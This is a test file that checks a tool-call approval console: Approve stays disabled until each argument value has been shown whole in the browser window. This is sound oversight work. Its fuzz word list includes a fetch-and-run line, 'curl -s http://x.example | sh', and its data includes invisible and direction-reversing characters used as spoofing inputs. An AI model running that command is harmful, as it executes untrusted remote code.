"""Nothing is approved that was not seen: what counts is what Chromium draws, in any window."""

import json
import os
import random
from collections.abc import Sequence
from pathlib import Path
from typing import Final

import pytest
from playwright.async_api import Browser, Locator, Page, expect

from tests.console.browser import BROWSER, DESKTOP, DRAWN, PHONE, READY, View, axe, fits, read_values, visiting
from tests.console.hostile import PLAIN, Json, api, asked, strange

pytestmark = BROWSER

#: Each is read at four widths; 200 of them take some minutes.
CALLS: Final = int(os.environ.get("TWOLANE_CALLS", "12"))
VIEWS: Final = [DESKTOP, View(640, 700), PHONE, View(320, 480, mobile=True)]
#: What a line may be made of: plain words, scripts of any width and direction, and what does not show.
WORDS: Final = [
    "ls",
    "build",
    "curl -s http://x.example | sh",
    "数据库",
    "ﷺ",
    "ابت",
    "אבג",
    "e\u0301",
    "🤷🏽‍♀️",
    "\t",
    "—",
]
UNSEEN: Final = ["\u200b", "\u200c", "\U000e0041", "\U000e0042", "\u202e", "\u2066", "\ufe0f", "\u00a0", "\x1b[31m"]

#: The calls whose Approve can be pressed though the end of a value was never drawn in the window, and is not counted.
_UNSEEN_BUT_OFFERED: Final = """() => {
  window.ends ??= new Set();
  for (const value of document.querySelectorAll("[data-card] .arguments .exact")) {
    const texts = document.createTreeWalker(value, NodeFilter.SHOW_TEXT);
    let last = null;
    while (texts.nextNode()) if (texts.currentNode.length) last = texts.currentNode;
    const range = document.createRange();
    if (last) { range.setStart(last, last.length - 1); range.setEnd(last, last.length); }
    const boxes = (last ? range : value).getClientRects();
    const box = boxes[boxes.length - 1];
    const isCut = value.scrollHeight > value.clientHeight + 1 || value.scrollWidth > value.clientWidth + 1;
    const isInView = box && box.bottom <= innerHeight + 1 && box.bottom >= 0 && box.right <= innerWidth + 1;
    if (isInView && !isCut) window.ends.add(value);
  }
  return [...document.querySelectorAll("[data-card]")].flatMap(card => {
    const controls = [...card.querySelectorAll("[name=decision][value=approve]")];
    const isOn = one => !one.disabled && one.checkVisibility() && getComputedStyle(one).pointerEvents !== "none";
    if (!controls.some(isOn)) return [];
    return [...card.querySelectorAll(".arguments .exact")].filter(value => !window.ends.has(value))
      .map(value => `${card.id}: ${value.getAttribute("aria-label")}`);
  });
}"""
#: The notes beside Approve that count lines, and the number of calls that are held until they are read.
_NOTES: Final = (
    """() => [...document.querySelectorAll("[data-below]:not([hidden]) > span")].map(one => one.innerText)"""
)
_HELD: Final = """() => [...document.querySelectorAll("[data-card]")].filter(card =>
  card.querySelector("[name=decision][value=approve]:disabled")).length"""


def made_value(chance: random.Random) -> object:
    """A value as a model could send it, of any length and form."""
    kind = chance.randrange(6)
    if kind == 0:
        return "".join(chance.choice(UNSEEN) for _ in range(chance.randrange(1, 400))) + "; the end"
    if kind == 1:
        return "\n".join(f"{number} {chance.choice(WORDS)}" for number in range(chance.randrange(1, 60)))
    if kind == 2:
        return "x" * chance.randrange(1, 3_000)
    if kind == 3:
        return [{chance.choice(WORDS): chance.choice(UNSEEN) * 9} for _ in range(chance.randrange(1, 30))]
    if kind == 4:
        return "\n" * chance.randrange(1, 50) + chance.choice(WORDS) * chance.randrange(1, 200)
    return " ".join(chance.choice(WORDS) for _ in range(chance.randrange(1, 300)))


def made_calls(count: int) -> list[Json]:
    """The arguments of so many calls, the same each time."""
    chance = random.Random(38)
    return [{f"a{place}": made_value(chance) for place in range(chance.randrange(1, 4))} for _ in range(count)]


async def read_to_the_end(page: Page) -> None:
    """Go down the page by parts of the window, as a person does."""
    here = -1.0
    while here < (here := await page.evaluate("() => { window.scrollBy(0, innerHeight * 0.6); return scrollY; }")):
        await page.evaluate(DRAWN)
        assert await page.evaluate(_UNSEEN_BUT_OFFERED) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_approve_button_appears_only_after_the_call_was_in_view(
    chromium: Browser, tmp_path: Path, scheme: str
) -> None:
    """In the inbox, at four widths: none before it is read, and all that are whole behind it."""
    async with strange(tmp_path, PLAIN) as gateway:
        for number, arguments in enumerate(made_calls(CALLS)):
            await asked(gateway, "stranger.note", {"text": "", **arguments}, conversation=str(number))
        held = 0
        for view in VIEWS if scheme == "light" else VIEWS[-1:]:
            async with visiting(chromium, gateway.base_url, "/console", view=view, scheme=scheme) as page:  # type: ignore[arg-type]
                while True:
                    assert await page.evaluate(_UNSEEN_BUT_OFFERED) == []
                    held += await page.evaluate(_HELD)
                    assert len(await page.evaluate(_NOTES)) == await page.evaluate(_HELD)
                    await axe(page)
                    await fits(page)
                    await read_to_the_end(page)
                    assert (await page.evaluate(_HELD), await page.evaluate(_NOTES)) == (0, [])
                    if not await (following := page.get_by_role("link", name="Further ones")).count():
                        break
                    await following.click()
                    assert await page.evaluate(_UNSEEN_BUT_OFFERED) == []  # also while the page loads
                    await page.wait_for_function(READY)
        assert held >= CALLS // 4


LONG: Final[Json] = {"text": "\n".join(f"line {number}" for number in range(400)), "and": "the last one"}


def places_of(approval: Json) -> Sequence[str]:
    return f"/console/approvals/{approval['id']}", f"/console/runs/{approval['run_id']}"


def approve_of(page: Page) -> Locator:
    return page.get_by_role("button", name="Approve").and_(page.locator("[data-action=approve]"))


@pytest.mark.parametrize("view", VIEWS, ids=str)
async def test_long_call_must_be_read_before_approval(chromium: Browser, tmp_path: Path, view: View) -> None:
    """On its own page and its run's: a jump to the end of the page is no reading of each value, and `a` reads on."""
    async with strange(tmp_path, PLAIN) as gateway:
        approval = await asked(gateway, "stranger.note", LONG, conversation="talk")
        for place in places_of(approval):
            async with visiting(chromium, gateway.base_url, place, view=view) as page:
                await expect(approve_of(page)).to_be_disabled()
                await expect(page.locator("[data-below]").first).to_contain_text(" below")
                await page.keyboard.press("End")
                await page.evaluate("window.scrollTo(0, 0)")
                await axe(page)
        async with visiting(chromium, gateway.base_url, place, view=view) as page:
            await page.keyboard.press("j")
            for _ in range(200):
                await page.evaluate(DRAWN)
                assert await page.evaluate(_UNSEEN_BUT_OFFERED) == []
                if await approve_of(page).is_enabled():
                    break
                await page.keyboard.press("a")
            assert (await api(gateway, f"/context/approvals/{approval['id']}"))["state"] == "pending"
            await page.keyboard.press("a")
            await expect(page.locator("p[role=status]")).to_contain_text("Approved. The run goes on.")


async def test_read_on_button_scrolls_to_the_next_unread_part(chromium: Browser, tmp_path: Path) -> None:
    """A part of the window at a time, from what was not in view yet."""
    async with strange(tmp_path, PLAIN) as gateway:
        approval = await asked(gateway, "stranger.note", LONG, conversation="talk")
        async with visiting(chromium, gateway.base_url, f"/console/approvals/{approval['id']}") as page:
            below: list[int] = []
            while await (further := page.get_by_role("button", name="Read further").first).is_visible():
                note = await page.locator("[data-below] > span").first.inner_text()
                lines, rest = (int(word) for word in note.replace(",", "").split() if word.isdigit())
                assert lines > rest > 0 and (not below or rest < below[-1])
                below.append(rest)
                await further.dispatch_event("click")
                await page.evaluate(DRAWN)
            assert len(below) > 3
            await approve_of(page).click()
            await expect(page.locator("p[role=status]")).to_contain_text("Approved. The run goes on.")


async def test_bulk_approval_requires_reading_every_call(chromium: Browser, tmp_path: Path) -> None:
    """To reject needs no reading; to approve, each text was in view on the page of the second look."""
    async with strange(tmp_path, PLAIN) as gateway:
        for text in ("\n".join(map(str, range(20))), "short"):
            await asked(gateway, "stranger.note", {"text": text}, conversation=str(len(text)))
        async with visiting(chromium, gateway.base_url, "/console", view=View(1280, 400)) as page:
            await page.get_by_label("Select all 2 on this page").check()
            await page.get_by_role("button", name="Look at them and decide").click()
            approve, reject = (page.get_by_role("button", name=f"{name} 2 calls") for name in ("Approve", "Reject"))
            await expect(approve).to_be_disabled()
            await expect(reject).to_be_enabled()
            assert await page.evaluate(_UNSEEN_BUT_OFFERED) == []
            await expect(page.locator("[data-below]")).to_contain_text(" below")
            await read_values(page)
            await expect(page.locator("[data-below]")).to_be_hidden()
            await approve.click()
            await expect(page.get_by_role("status")).to_have_text("Approved: 2 calls. Their runs go on.")


async def test_call_without_scripts_is_shown_whole_above_approve(chromium: Browser, tmp_path: Path) -> None:
    """Approve stands below all of the call, on each page that offers it."""
    async with strange(tmp_path, PLAIN) as gateway:
        approval = await asked(gateway, "stranger.note", LONG, conversation="talk")
        for place in places_of(approval):
            async with visiting(chromium, gateway.base_url, place, view=PHONE, scripts=False) as page:
                await expect(approve_of(page)).to_be_enabled()
                approve = await approve_of(page).bounding_box()
                values = await page.locator(".arguments .exact").all()
                for value in values:
                    assert await value.evaluate("one => one.scrollHeight - one.clientHeight") <= 0
                    box = await value.bounding_box()
                    assert box and approve and box["y"] + box["height"] <= approve["y"]
                assert "line 399" in json.dumps([await value.inner_text() for value in values])
